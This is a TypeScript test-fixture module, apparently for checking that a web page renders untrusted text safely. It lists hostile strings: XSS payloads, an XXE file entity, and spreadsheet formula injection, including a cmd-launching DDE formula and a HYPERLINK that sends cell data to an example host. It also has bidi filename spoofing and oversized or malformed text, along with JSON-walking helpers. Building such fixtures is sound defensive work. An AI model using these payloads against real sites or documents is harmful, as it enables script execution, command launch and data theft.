/** Texts that some reader of texts takes for something else: markup, programs, formulas, directions, ends of files. */

/** What a program of these would do, if it ran: the page's tests look for it. */
export const RAN = "__ran";
const RUN = `window.${RAN}=1`;

/** They can stand in every text, and have to come out as they went in. */
export const ODD: Readonly<Record<string, string>> = {
  script: `<script>${RUN}</script>`,
  handler: `<img src=x onerror="${RUN}">`,
  svg: `<svg onload='${RUN}'><a xlink:href="javascript:${RUN}">x</a></svg>`,
  frame: `<iframe srcdoc="<script>parent.${RAN}=1</script>"></iframe>`,
  closing: `"></title></style></textarea></script><script>${RUN}</script>`,
  attribute: `x" autofocus onfocus="${RUN}" y='`,
  entities: "&lt;b&gt; &amp;amp; &#60;script&#62; &nbsp; &unknown; &#x0;",
  cdata: "<![CDATA[ in ]]> out ]]&gt; ]]>",
  comment: "<!-- --> -- --!> <?xml version='1.1'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///'>]>&e;",
  javascript: `javascript:${RUN}//`,
  dataAddress: `data:text/html,<script>${RUN}</script>`,
  template: `\${${RUN}} {{constructor.constructor("${RUN}")()}} #{x} <%= x %>`,
  prototype: "__proto__",
  constructed: "constructor",
  formula: `=HYPERLINK("https://tiles.example/?"&A1,"x")`,
  plus: "+1+1",
  minus: "-2+3+cmd|' /C calc'!A0",
  at: "@SUM(1+1)*A1",
  hidden: "x;=1+1",
  wide: "＝１＋１",
  tex: "\\input{x} $a_b^c$ 100% #1 ~ {{unbalanced } \\end{document} @misc{x,",
  jsonLd: `{"@context":"https://tiles.example/","@id":"javascript:${RUN}"}`,
  json: `","x":{"y":[1]},"z":"\\u0000\\`,
  quotes: `"double" 'single' «both» “those” \`these\``,
  commas: "one, two; three\tfour | five",
  letters: "Ünïcode 😀 👩🏽‍🚀 عربي עברית 海参崴 \u00a0\u2009\u200d",
  marks: "right\u200fto\u200eleft\u061c",
  stacked: `Z${"\u0301\u0302\u0327".repeat(30)}`,
};

/** Longer than anything that a page has room for, in one word and in many. */
export const LONG: Readonly<Record<string, string>> = {
  word: "x".repeat(4000),
  words: "word ".repeat(800).trim(),
  wide: "海".repeat(4000),
};

/** No author needs them, and no page shows them as they are. */
export const UNREADABLE: Readonly<Record<string, string>> = {
  override: "safe \u202egnp.exe\u202c name",
  isolate: "a \u2067turned\u2069 b \u2066open",
  embedding: "\u202bembedded",
  zero: "before\u0000after",
  formulaBehindZero: "\u0000=1+1",
  control: "\u0007bell\u001b[31mred\u0008",
  delete: "\u007f\u0085\u009b",
  surrogate: "alone \ud800",
  otherSurrogate: "\udc00 alone",
  noCharacter: "\ufffe\uffff",
  endless: "x".repeat(200_000),
};

export const HOSTILE: Readonly<Record<string, string>> = { ...ODD, ...prefixed("long", LONG), ...UNREADABLE };

function prefixed(prefix: string, texts: Readonly<Record<string, string>>): Record<string, string> {
  return Object.fromEntries(Object.entries(texts).map(([name, text]) => [`${prefix} ${name}`, text]));
}

export interface Spot {
  /** «claims.0.quote.exact» */
  readonly path: string;
  readonly text: string;
}

/** Every string in a value of JSON, and where it stands. */
export function textsIn(value: unknown, path = ""): Spot[] {
  if (typeof value === "string") return [{ path, text: value }];
  if (typeof value !== "object" || value === null) return [];
  return Object.entries(value).flatMap(([key, one]) => textsIn(one, path === "" ? key : `${path}.${key}`));
}

/** The value with other texts: `change` gives the new one, or undefined to leave it. */
export function withTexts<T>(value: T, change: (spot: Spot) => string | undefined, path = ""): T {
  if (typeof value === "string") return (change({ path, text: value }) ?? value) as T;
  if (typeof value !== "object" || value === null) return value;
  const at = (key: string) => (path === "" ? key : `${path}.${key}`);
  if (Array.isArray(value)) return value.map((one, i) => withTexts(one, change, at(String(i)))) as T;
  return Object.fromEntries(Object.entries(value).map(([key, one]) => [key, withTexts(one, change, at(key))])) as T;
}
